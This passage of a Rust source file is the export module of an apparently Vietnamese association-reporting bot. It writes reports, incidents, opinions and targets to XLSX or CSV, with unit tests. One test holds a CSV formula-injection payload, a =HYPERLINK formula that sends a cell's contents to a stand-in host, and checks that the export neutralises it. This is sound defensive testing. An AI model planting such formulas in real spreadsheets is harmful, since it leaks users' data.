                            Cell::opt(row.thoughts_note),
                            Cell::Int(inc.len() as i64),
                            if inc.is_empty() {
                                Cell::Empty
                            } else {
                                Cell::Text(inc.join("\n"))
                            },
                            Cell::opt(row.proposals),
                        ];
                        (row.unit, cells)
                    },
                )
                .await?;
            }
            Sheet::Incidents => {
                let sql = over_units(
                    &scope.store,
                    "r.unit_id, i.field, i.severity, i.people, i.people_from, i.description",
                    "incidents i JOIN reports r ON r.id = i.report_id",
                    "r.unit_id",
                    "r.period = $2",
                    Some("i.report_id, i.position"),
                );
                let monthly: Arc<str> = tr!(lang, "export-source-monthly").into();
                count += month_by_month(
                    &mut conn,
                    &sql,
                    scope,
                    units,
                    names,
                    out,
                    |period,
                     (unit, f, s, people, from, description): (
                        i64,
                        String,
                        String,
                        i64,
                        Option<i64>,
                        String,
                    )| {
                        let field = IncidentField::parse(&f)
                            .map(|v| labels::field(lang, v))
                            .unwrap_or(f);
                        let sev = Severity::parse(&s)
                            .map(|v| labels::severity(lang, v))
                            .unwrap_or(s);
                        let cells = vec![
                            names.code(unit),
                            names.path(unit),
                            period.clone(),
                            Cell::Shared(monthly.clone()),
                            Cell::Text(field),
                            Cell::Text(sev),
                            people_cell(people, from),
                            Cell::Text(description),
                            Cell::Empty,
                        ];
                        (unit, cells)
                    },
                )
                .await?;
                let (from, to) = range_bounds(scope);
                // Urgent reports follow, as they came in: a log, in time order.
                let urgent: Vec<UrgentRow> = sql::query_as(
                    "SELECT u.id, a.created_at, a.field, a.severity, a.people, a.people_from, a.description, a.status
                     FROM urgent_reports a JOIN units u ON u.id = a.unit_id
                     WHERE u.path >= $1 AND u.path < $2 AND a.created_at >= $3 AND a.created_at < $4 AND a.source = 'adhoc'
                     ORDER BY a.created_at",
                )
                .persistent(false)
                .bind(&root.path)
                .bind(&end)
                .bind(from)
                .bind(to)
                .fetch_all(&mut conn)
                .await?;
                let adhoc: Arc<str> = tr!(lang, "export-source-urgent").into();
                for (unit, at, f, s, p, from, d, status) in urgent {
                    let field = IncidentField::parse(&f)
                        .map(|v| labels::field(lang, v))
                        .unwrap_or(f);
                    let sev = Severity::parse(&s)
                        .map(|v| labels::severity(lang, v))
                        .unwrap_or(s);
                    let status = crate::alerts::AlertStatus::parse(&status)
                        .map(|v| v.label(lang))
                        .unwrap_or(status);
                    let period = Period::containing(
                        DateTime::from_timestamp(at, 0).unwrap_or_default(),
                        scope.tz(),
                    );
                    out.push(vec![
                        names.code(unit),
                        names.path(unit),
                        Cell::Text(period.to_string()),
                        Cell::Shared(adhoc.clone()),
                        Cell::Text(field),
                        Cell::Text(sev),
                        people_cell(p, from),
                        Cell::Text(d),
                        Cell::Text(status),
                    ])
                    .await?;
                    count += 1;
                }
            }
            Sheet::Proposals => {
                let sql = over_units(
                    &scope.store,
                    "r.unit_id, a.display_name, r.proposals",
                    "reports r JOIN users a ON a.id = r.author_id",
                    "r.unit_id",
                    "r.period = $2 AND r.proposals IS NOT NULL",
                    None,
                );
                count += month_by_month(
                    &mut conn,
                    &sql,
                    scope,
                    units,
                    names,
                    out,
                    |period, (unit, author, text): (i64, String, String)| {
                        let cells = vec![
                            names.code(unit),
                            names.path(unit),
                            period.clone(),
                            Cell::Text(author),
                            Cell::Text(text),
                        ];
                        (unit, cells)
                    },
                )
                .await?;
            }
            Sheet::Opinions => {
                // Opinions are a log, in the order they were sent, not a list of units.
                let sql = format!(
                    "SELECT {} FROM opinions o JOIN units u ON u.id = o.unit_id LEFT JOIN users a ON a.id = o.author_id
                     WHERE u.path >= $1 AND u.path < $2 AND o.period IN ({}) ORDER BY o.created_at, o.id",
                    json_row(
                        &scope.store,
                        "u.id, o.period, o.created_at, o.anonymous, a.display_name, o.body"
                    ),
                    sql::placeholders(2, months.len())
                );
                let mut q = sqlx::query(&sql)
                    .persistent(false)
                    .bind(&root.path)
                    .bind(&end);
                for m in &months {
                    q = q.bind(m);
                }
                let anonymous: Arc<str> = tr!(lang, "opinion-anonymous-name").into();
                // A log, not a list of units: streamed through sqlx in the order it was sent.
                let mut raw = scope.store.pool().acquire().await?;
                let mut rows = q.fetch(&mut *raw);
                while let Some(r) = rows.try_next().await? {
                    let (unit, period, at, anon, author, body): (
                        i64,
                        String,
                        i64,
                        i64,
                        Option<String>,
                        String,
                    ) = from_json(&r)?;
                    // An anonymous opinion keeps no author at all.
                    let who = match author {
                        Some(author) if anon == 0 => Cell::Text(author),
                        _ => Cell::Shared(anonymous.clone()),
                    };
                    out.push(vec![
                        names.code(unit),
                        names.path(unit),
                        Cell::Text(period),
                        scope.time(at),
                        who,
                        Cell::Text(body),
                    ])
                    .await?;
                    count += 1;
                }
            }
            Sheet::Activities => {
                let (photos, join) = activity_photos(&scope.store);
                let sql = over_units(
                    &scope.store,
                    &format!(
                        "a.unit_id, a.happened_on, a.type_code, a.amount, a.description, {photos}"
                    ),
                    &format!("activities a{join}"),
                    "a.unit_id",
                    "a.period = $2",
                    Some("a.id"),
                );
                // The catalogue is small: names and measures are looked up once, not per row.
                let measures = [
                    ("participants", tr!(lang, "activity-unit-participants")),
                    ("households", tr!(lang, "activity-unit-households")),
                    ("count", tr!(lang, "activity-unit-count")),
                ];
                let types: Vec<(String, String, String, String)> =
                    sql::query_as("SELECT code, name_vi, name_en, measure FROM activity_types")
                        .fetch_all(&mut conn)
                        .await?;
                let types: HashMap<String, (Arc<str>, Arc<str>)> = types
                    .into_iter()
                    .map(|(code, vi, en, measure)| {
                        let name = if lang == Lang::Vi { vi } else { en };
                        let measure = measures
                            .iter()
                            .find(|(k, _)| *k == measure)
                            .map(|(_, v)| v.clone())
                            .unwrap_or(measure);
                        (code, (name.into(), measure.into()))
                    })
                    .collect();
                count += month_by_month(
                    &mut conn,
                    &sql,
                    scope,
                    units,
                    names,
                    out,
                    |_, row: (i64, String, String, i64, Option<String>, i64)| {
                        let (unit, date, code, amount, description, photos) = row;
                        let (name, measure) = match types.get(&code) {
                            Some((n, m)) => (Cell::Shared(n.clone()), Cell::Shared(m.clone())),
                            None => (Cell::Text(code), Cell::Empty),
                        };
                        let cells = vec![
                            names.code(unit),
                            names.path(unit),
                            Cell::Date(date),
                            name,
                            Cell::Int(amount),
                            measure,
                            Cell::opt(description),
                            Cell::Int(photos),
                        ];
                        (unit, cells)
                    },
                )
                .await?;
            }
            Sheet::Completeness => {
                // One row per month for the root and for each grassroots union under it: one
                // grouped statement per month, whatever the number of unions.
                let calendar = org::calendar_for(&mut conn, &scope.calendars, root).await?;
                let mut grassroots: Vec<(i64, String, i64)> = sql::query_as(
                    "SELECT id, code, depth FROM units WHERE path >= $1 AND path < $2 AND level = 'grassroots'",
                )
                .persistent(false)
                .bind(&root.path)
                .bind(&end)
                .fetch_all(&mut conn)
                .await?;
                grassroots.sort_by_key(|(id, _, _)| names.rank(*id));
                let depths: std::collections::BTreeSet<i64> =
                    grassroots.iter().map(|g| g.2).collect();
                for period in scope.range.months() {
                    let until = (calendar.deadline(period) + calendar.on_time_grace).timestamp();
                    let mut counts: HashMap<i64, views::Counts> = HashMap::new();
                    let mut all = views::Counts::default();
                    for (_, c) in
                        views::completeness_by_child(&mut conn, root, period, until).await?
                    {
                        all.on_time += c.on_time;
                        all.late += c.late;
                        all.missing += c.missing;
                    }
                    for depth in &depths {
                        for (id, c) in
                            views::completeness_by_depth(&mut conn, root, *depth, period, until)
                                .await?
                        {
                            if let Some(id) = id {
                                counts.insert(id, c);
                            }
                        }
                    }
                    let line = |code: &str, unit: i64, c: views::Counts| {
                        vec![
                            Cell::Text(code.to_owned()),
                            names.path(unit),
                            Cell::Text(period.to_string()),
                            Cell::Int(c.expected()),
                            Cell::Int(c.on_time),
                            Cell::Int(c.late),
                            Cell::Int(c.missing),
                            Cell::Pct(c.on_time_pct()),
                        ]
                    };
                    out.push(line(&root.code, root.id, all)).await?;
                    count += 1;
                    // A grassroots union's own export has its row once, as the root.
                    for (id, code, _) in grassroots.iter().filter(|(id, _, _)| *id != root.id) {
                        out.push(line(code, *id, counts.get(id).copied().unwrap_or_default()))
                            .await?;
                        count += 1;
                    }
                }
            }
            Sheet::Targets => {
                let year = scope.range.year();
                let list =
                    crate::targets::under(&mut conn, &scope.calendars, root, year, scope.now)
                        .await?;
                let children = org::children(&mut conn, Some(root.id)).await?;
                for (t, total, by_child) in &list {
                    let title: Arc<str> = if lang == Lang::Vi {
                        t.title_vi.as_str().into()
                    } else {
                        t.title_en.as_str().into()
                    };
                    let level: Arc<str> = labels::level(lang, t.level).into();
                    let line = |code: &str, unit: i64, p: &views::Progress| {
                        vec![
                            Cell::Text(code.to_owned()),
                            names.path(unit),
                            Cell::Int(t.number),
                            Cell::Shared(title.clone()),
                            Cell::Shared(level.clone()),
                            Cell::Int(t.goal_pct),
                            Cell::Int(p.achieved),
                            Cell::Int(p.total),
                            Cell::Pct(p.pct()),
                        ]
                    };
                    out.push(line(&root.code, root.id, total)).await?;
                    count += 1;
                    // Targets stay worst first (their order means something); under each,
                    // the children in Vietnamese order of their names.
                    let by_child: HashMap<i64, &views::Progress> =
                        by_child.iter().map(|(id, p)| (*id, p)).collect();
                    for c in &children {
                        if let Some(p) = by_child.get(&c.id) {
                            out.push(line(&c.code, c.id, p)).await?;
                            count += 1;
                        }
                    }
                }
            }
        }
    }
    Ok(count)
}

/// Unix-second bounds of the scope's range in its time zone.
fn range_bounds(scope: &Scope) -> (i64, i64) {
    let months = scope.range.months();
    let from = months
        .first()
        .map(|p| p.starts_at(scope.tz()).timestamp())
        .unwrap_or(0);
    let to = months
        .last()
        .map(|p| p.next().starts_at(scope.tz()).timestamp())
        .unwrap_or(0);
    (from, to)
}

/// One sheet as a table in memory (tests, the demo, small exports).
pub async fn table(scope: &Scope, sheet: Sheet) -> Result<Table, ExportError> {
    let names = Names::load(scope).await?;
    let (rows, _) = pump(scope, &names, sheet, Vec::<Vec<String>>::new()).await?;
    Ok(Table {
        headers: headers(scope.lang, sheet),
        rows,
    })
}

/// The monthly reports of one period as a table (kept for callers of the first release).
pub async fn reports_table(
    store: &Store,
    period: Period,
    unit_code: Option<&str>,
    lang: Lang,
    tz: Tz,
) -> Result<Table, ExportError> {
    let calendars =
        Calendars::new(tz, Default::default()).map_err(|e| StorageError::Corrupt(e.to_string()))?;
    let scope = Scope::new(
        store,
        &calendars,
        unit_code,
        PeriodRange::Month(period),
        lang,
        Utc::now(),
    )
    .await?;
    table(&scope, Sheet::Reports).await
}

/// CSV of one sheet into `w`, UTF-8 with a byte-order mark so that Excel shows Vietnamese
/// correctly. Returns the writer and the number of rows.
async fn csv_into<W: std::io::Write + Send + 'static>(
    scope: &Scope,
    sheet: Sheet,
    mut w: W,
) -> Result<(W, usize), ExportError> {
    let names = Names::load(scope).await?;
    w.write_all("\u{feff}".as_bytes())?;
    let mut sink = CsvSink(csv::Writer::from_writer(w));
    sink.0.write_record(headers(scope.lang, sheet))?;
    let (sink, n) = pump(scope, &names, sheet, sink).await?;
    let w = sink.0.into_inner().map_err(|e| e.into_error())?;
    Ok((w, n))
}

/// Sheets of a workbook read at once. Each holds one database connection while it is read (the
/// SQLite pool has four) and has its own writing thread.
const SHEETS_AT_ONCE: usize = 3;

/// On SQLite, whose reads run in the bot's own process, two: the third sheet's reading added
/// its working memory to the heap's peak (83–97 MiB with three) and little speed
/// (docs/BENCHMARKS.md §7).
const SQLITE_SHEETS_AT_ONCE: usize = 2;

/// The workbook with every sheet; returns it and the number of monthly reports in it.
///
/// Sheets are read [`SHEETS_AT_ONCE`] at a time ([`SQLITE_SHEETS_AT_ONCE`] on SQLite), the two
/// large ones (reports, activities) first, then the one that spends its time in the database (completeness).
async fn workbook(scope: &Scope) -> Result<(Workbook, usize), ExportError> {
    let t = std::time::Instant::now();
    let names = Names::load(scope).await?;
    tracing::debug!(
        units = names.units.len(),
        secs = t.elapsed().as_secs_f64(),
        "export: names loaded"
    );
    let book = Arc::new(Mutex::new(Workbook::new()));
    let order = [
        Sheet::Reports,
        Sheet::Activities,
        Sheet::Completeness,
        Sheet::Proposals,
        Sheet::Incidents,
        Sheet::Opinions,
        Sheet::Targets,
    ];
    let scope = Arc::new(scope.clone());
    let names = Arc::new(names);
    let sheet_task = |sheet: Sheet| {
        let (book, scope, names) = (Arc::clone(&book), Arc::clone(&scope), Arc::clone(&names));
        async move {
            let t = std::time::Instant::now();
            let sink = XlsxSink::new(book, sheet.title(scope.lang), columns(scope.lang, sheet))?;
            let (sink, n) = pump(&scope, &names, sheet, sink).await?;
            tracing::debug!(
                ?sheet,
                rows = n,
                secs = t.elapsed().as_secs_f64(),
                "export: sheet written"
            );
            Ok::<_, ExportError>((sheet, sink.finish(), n))
        }
    };
    // Tasks rather than futures of this one, so that two sheets' rows are decoded on two
    // threads. Dropping the set (on an error) stops the sheets still running.
    let mut pending = order.into_iter();
    let mut running = tokio::task::JoinSet::new();
    for sheet in pending.by_ref().take(scope.sheets_at_once) {
        running.spawn(sheet_task(sheet));
    }
    let mut parts: Vec<(Sheet, Vec<Worksheet>, usize)> = Vec::new();
    while let Some(done) = running.join_next().await {
        parts.push(done.map_err(|_| ExportError::WriterStopped)??);
        if let Some(sheet) = pending.next() {
            running.spawn(sheet_task(sheet));
        }
    }
    parts.sort_by_key(|(sheet, _, _)| Sheet::ALL.iter().position(|s| s == sheet));
    let mut book = Arc::try_unwrap(book)
        .map_err(|_| ExportError::WriterStopped)?
        .into_inner()
        .map_err(|_| ExportError::WriterStopped)?;
    book.set_zip_compression_level(zip_level(parts.iter().map(|(_, _, n)| n).sum()));
    let mut reports = 0;
    for (sheet, worksheets, n) in parts {
        if sheet == Sheet::Reports {
            reports = n;
        }
        for ws in worksheets {
            book.push_worksheet(ws);
        }
    }
    Ok((book, reports))
}

/// Reads `sheets` of the scope into sinks that `make` gives, one per sheet, as the workbook
/// reads them (the same rows, the same number of sheets at once): the path a document made
/// from the export's own rows takes ([`crate::draft`]), so that its figures are the
/// workbook's. Returns each sheet's sink in the order of `sheets`.
pub(crate) async fn fold<S: RowSink>(
    scope: &Scope,
    sheets: &[Sheet],
    make: impl Fn(Sheet) -> S,
) -> Result<Vec<S>, ExportError> {
    let names = Arc::new(Names::load(scope).await?);
    let scope = Arc::new(scope.clone());
    let mut pending = sheets.iter().map(|s| (*s, make(*s))).enumerate();
    let mut running = tokio::task::JoinSet::new();
    let spawn = |running: &mut tokio::task::JoinSet<_>, (i, (sheet, sink)): (usize, (Sheet, S))| {
        let (scope, names) = (Arc::clone(&scope), Arc::clone(&names));
        running.spawn(async move {
            let (sink, _) = pump(&scope, &names, sheet, sink).await?;
            Ok::<_, ExportError>((i, sink))
        });
    };
    for next in pending.by_ref().take(scope.sheets_at_once) {
        spawn(&mut running, next);
    }
    let mut done: Vec<(usize, S)> = Vec::with_capacity(sheets.len());
    while let Some(joined) = running.join_next().await {
        done.push(joined.map_err(|_| ExportError::WriterStopped)??);
        if let Some(next) = pending.next() {
            spawn(&mut running, next);
        }
    }
    done.sort_by_key(|(i, _)| *i);
    Ok(done.into_iter().map(|(_, s)| s).collect())
}

/// Writes the export to `out`: XLSX with every sheet, or CSV of `sheet`. Returns the number of
/// rows of the reports sheet (XLSX) or of the sheet written (CSV).
pub async fn export_to_file(
    scope: &Scope,
    format: ExportFormat,
    sheet: Sheet,
    out: &Path,
) -> Result<usize, ExportError> {
    match format {
        ExportFormat::Xlsx => {
            let (mut book, n) = workbook(scope).await?;
            let out = out.to_owned();
            let t = std::time::Instant::now();
            tokio::task::spawn_blocking(move || book.save(out))
                .await
                .map_err(|_| ExportError::WriterStopped)??;
            tracing::debug!(secs = t.elapsed().as_secs_f64(), "export: workbook saved");
            Ok(n)
        }
        ExportFormat::Csv => {
            let file = std::fs::File::create(out)?;
            let (_, n) = csv_into(scope, sheet, file).await?;
            Ok(n)
        }
    }
}

/// An export for chat: XLSX of everything, or CSV of the reports, made into a temporary file
/// (removed when the returned path is dropped) one sheet at a time. Returns the file and its
/// number of rows, as [`export_to_file`].
pub async fn export_temp_file(
    store: &Store,
    calendars: &Calendars,
    unit_code: Option<&str>,
    range: PeriodRange,
    format: ExportFormat,
    lang: Lang,
    now: DateTime<Utc>,
) -> Result<(tempfile::TempPath, usize), ExportError> {
    let scope = Scope::new(store, calendars, unit_code, range, lang, now)
        .await?
        .one_sheet_at_a_time();
    let path = tempfile::Builder::new()
        .prefix("chihoi-export-")
        .tempfile()?
        .into_temp_path();
    let rows = export_to_file(&scope, format, Sheet::Reports, &path).await?;
    Ok((path, rows))
}

/// One unit's row of a poll's results table (`/laykien`).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PollRow {
    pub unit: String,
    pub asked: i64,
    pub answered: i64,
    /// People per option, in the poll's order.
    pub counts: Vec<i64>,
}

/// A poll's results by unit as CSV (UTF-8 with a byte-order mark, like every CSV export):
/// `headers` first (unit, asked, answered, then one column per option), a row per unit, and a
/// last row of totals under `total`. Unit names and options are text people typed, guarded
/// against spreadsheet formulas like every other exported text.
pub fn poll_results_csv(
    headers: &[String],
    rows: &[PollRow],
    total: &PollRow,
) -> Result<Vec<u8>, ExportError> {
    let mut w = csv::Writer::from_writer("\u{feff}".as_bytes().to_vec());
    let guard = |t: &str| csv_text(&Cell::Text(t.to_owned())).into_owned();
    w.write_record(headers.iter().map(|h| guard(h)))?;
    for r in rows.iter().chain(std::iter::once(total)) {
        let mut record = vec![guard(&r.unit), r.asked.to_string(), r.answered.to_string()];
        record.extend(r.counts.iter().map(i64::to_string));
        w.write_record(&record)?;
    }
    w.into_inner().map_err(|e| ExportError::Io(e.into_error()))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn poll_results_are_one_row_per_unit_and_a_total_with_formulas_disarmed() {
        let row = |unit: &str, asked, answered, counts: &[i64]| PollRow {
            unit: unit.into(),
            asked,
            answered,
            counts: counts.to_vec(),
        };
        let headers: Vec<String> = ["Đơn vị", "Được hỏi", "Đã trả lời", "=Đồng ý", "Không"]
            .map(String::from)
            .into();
        let bytes = poll_results_csv(
            &headers,
            &[
                row("Chi hội A", 2, 2, &[1, 1]),
                row("Chi hội B", 1, 0, &[0, 0]),
            ],
            &row("Tổng", 3, 2, &[1, 1]),
        )
        .unwrap();
        let text = String::from_utf8(bytes).unwrap();
        assert_eq!(
            text,
            "\u{feff}Đơn vị,Được hỏi,Đã trả lời,'=Đồng ý,Không\nChi hội A,2,2,1,1\nChi hội B,1,0,0,0\nTổng,3,2,1,1\n"
        );
    }

    fn text(s: &str) -> Cell {
        Cell::Text(s.to_owned())
    }

    #[test]
    fn csv_quotes_what_needs_quoting() {
        let mut out = Vec::new();
        {
            let mut sink = CsvSink(csv::Writer::from_writer(&mut out));
            for cell in [
                text("TB-DH"),
                text("Bà con phấn khởi, \"được mùa\"\nxuống dòng 🌾"),
            ] {
                sink.0.write_field(cell.text().as_bytes()).unwrap();
            }
            sink.0.write_record(None::<&[u8]>).unwrap();
            sink.0.flush().unwrap();
        }
        let mut r = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(&out[..]);
        let rec = r.records().next().unwrap().unwrap();
        assert_eq!(
            rec.get(1),
            Some("Bà con phấn khởi, \"được mùa\"\nxuống dòng 🌾")
        );
    }

    #[test]
    fn an_incidents_people_are_a_range_when_she_chose_one_and_a_number_when_she_typed_it() {
        assert!(matches!(people_cell(50, Some(21)), Cell::Text(t) if t == "21–50"));
        assert!(matches!(people_cell(12, None), Cell::Int(12)));
    }

    #[test]
    fn csv_shows_formulas_people_typed_as_text_and_keeps_numbers() {
        for (typed, shown) in [
            (
                "=HYPERLINK(\"http://x/?\"&B2,\"Xem\")",
                "'=HYPERLINK(\"http://x/?\"&B2,\"Xem\")",
            ),
            ("+84 912 345 678", "'+84 912 345 678"),
            ("-bớt phí", "'-bớt phí"),
            ("@mọi người", "'@mọi người"),
            ("\t=1+1", "'\t=1+1"),
            ("Bình thường = ổn", "Bình thường = ổn"),
        ] {
            assert_eq!(csv_text(&text(typed)), shown);
            assert_eq!(csv_text(&Cell::Shared(typed.into())), shown);
        }
        assert_eq!(csv_text(&Cell::Int(-3)), "-3");
        assert_eq!(csv_text(&Cell::Pct(-1.5)), "-1.5");
    }

    #[test]
    fn cells_read_as_text_the_way_csv_shows_them() {
        // 2026-11-05 08:30 local time, stored as local seconds.
        let local = NaiveDate::from_ymd_opt(2026, 11, 5)
            .unwrap()
            .and_hms_opt(8, 30, 0)
            .unwrap()
            .and_utc()
            .timestamp();
        assert_eq!(Cell::Time(local).text(), "2026-11-05 08:30");
        assert_eq!(Cell::Pct(66.666).text(), "66.7");
        assert_eq!(Cell::Int(-3).text(), "-3");
        assert_eq!(Cell::Shared("Xã Đông Hợp".into()).text(), "Xã Đông Hợp");
        assert_eq!(Cell::Empty.text(), "");
    }

    #[test]
    fn scope_times_are_local_to_the_calendar_zone() {
        // 2026-11-05 01:30 UTC is 08:30 in Hà Nội (UTC+7).
        let ts = Utc
            .with_ymd_and_hms(2026, 11, 5, 1, 30, 0)
            .unwrap()
            .timestamp();
        assert_eq!(
            local_time(chrono_tz::Asia::Ho_Chi_Minh, ts).text(),
            "2026-11-05 08:30"
        );
        assert_eq!(local_time(chrono_tz::UTC, ts).text(), "2026-11-05 01:30");
    }

    #[test]
    fn xlsx_sheets_keep_types_continue_past_excels_row_limit_and_read_back() {
        use calamine::{Data, Reader, Xlsx};
        let book = Arc::new(Mutex::new(Workbook::new()));
        let local = NaiveDate::from_ymd_opt(2026, 11, 5)
            .unwrap()
            .and_hms_opt(8, 30, 0)
            .unwrap()
            .and_utc()
            .timestamp();
        let mut sink = XlsxSink::new(
            Arc::clone(&book),
            "Báo cáo tháng".into(),
            vec![
                ("Mã".into(), Kind::Text),
                ("Ghi chú".into(), Kind::Text),
                ("Nộp lúc".into(), Kind::Time),
                ("Ngày".into(), Kind::Date),
                ("Tỉ lệ".into(), Kind::Pct),
                ("Số".into(), Kind::Number),
            ],
        )
        .unwrap();
        sink.row(&[
            text("TB-DH"),
            text("Được mùa 🌾"),
            Cell::Time(local),
            Cell::Date("2026-11-15".into()),
            Cell::Pct(87.5),
            Cell::Int(42),
        ])
        .unwrap();
        sink.row(&[text("007"), Cell::Empty]).unwrap();
        // Pretend the sheet is full: the next row starts "Báo cáo tháng (2)".
        sink.row = XLSX_MAX_ROWS;
        sink.row(&[text("TB-TP"), text("tiếp")]).unwrap();
        let sheets = sink.finish();
        assert_eq!(sheets.len(), 2);
        let mut book = Arc::try_unwrap(book).ok().unwrap().into_inner().unwrap();
        for ws in sheets {
            book.push_worksheet(ws);
        }
        let bytes = book.save_to_buffer().unwrap();
        let mut xlsx: Xlsx<_> = Xlsx::new(std::io::Cursor::new(bytes)).unwrap();
        let first = xlsx.worksheet_range("Báo cáo tháng").unwrap();
        assert_eq!(first.get_value((0, 1)).unwrap().to_string(), "Ghi chú");
        assert_eq!(first.get_value((1, 1)).unwrap().to_string(), "Được mùa 🌾");
        // Excel counts days from 1899-12-30; 08:30 is 8.5/24 of a day.
        let day = |y, m, d| {
            (NaiveDate::from_ymd_opt(y, m, d).unwrap()
                - NaiveDate::from_ymd_opt(1899, 12, 30).unwrap())
            .num_days() as f64
        };
        match first.get_value((1, 2)).unwrap() {
            Data::DateTime(t) => {
                assert!(t.is_datetime(), "a time is shown as a date-time");
                assert!((t.as_f64() - (day(2026, 11, 5) + 8.5 / 24.0)).abs() < 1e-9);
            }
            other => panic!("expected a date-time, got {other:?}"),
        }
        match first.get_value((1, 3)).unwrap() {
            Data::DateTime(d) => assert_eq!(d.as_f64(), day(2026, 11, 15)),
            other => panic!("expected a date, got {other:?}"),
        }
        assert_eq!(first.get_value((1, 4)), Some(&Data::Float(87.5)));
        assert_eq!(first.get_value((1, 5)), Some(&Data::Float(42.0)));
        assert_eq!(
            first.get_value((2, 0)),
            Some(&Data::String("007".into())),
            "codes stay text, leading zeros and all"
        );
        let second = xlsx.worksheet_range("Báo cáo tháng (2)").unwrap();
        assert_eq!(second.get_value((0, 0)).unwrap().to_string(), "Mã");
        assert_eq!(second.get_value((1, 0)).unwrap().to_string(), "TB-TP");
    }

    #[tokio::test]
    async fn a_failing_writer_stops_the_reader_with_its_own_error() {
        struct Broken;
        impl RowSink for Broken {
            fn row(&mut self, _: &[Cell]) -> Result<(), ExportError> {
                Err(ExportError::Io(std::io::Error::other("disk full")))
            }
        }
        let (tx, mut rx) = mpsc::channel::<Vec<Vec<Cell>>>(1);
        let mut sink = Broken;
        let writer = tokio::task::spawn_blocking(move || {
            while let Some(batch) = rx.blocking_recv() {
                for row in &batch {
                    sink.row(row)?;
                }
            }
            Ok::<_, ExportError>(())
        });
        let mut rows = Rows {
            batch: Vec::new(),
            tx,
        };
        // The reader keeps pushing until the writer has gone; it must not hang.
        let mut stopped = false;
        for _ in 0..(BATCH * 8) {
            if rows.push(vec![Cell::Int(1)]).await.is_err() {
                stopped = true;
                break;
            }
        }
        assert!(stopped, "the reader noticed the writer stopped");
        drop(rows);
        let err = writer.await.unwrap().unwrap_err();
        assert!(matches!(err, ExportError::Io(_)), "{err:?}");
    }
}
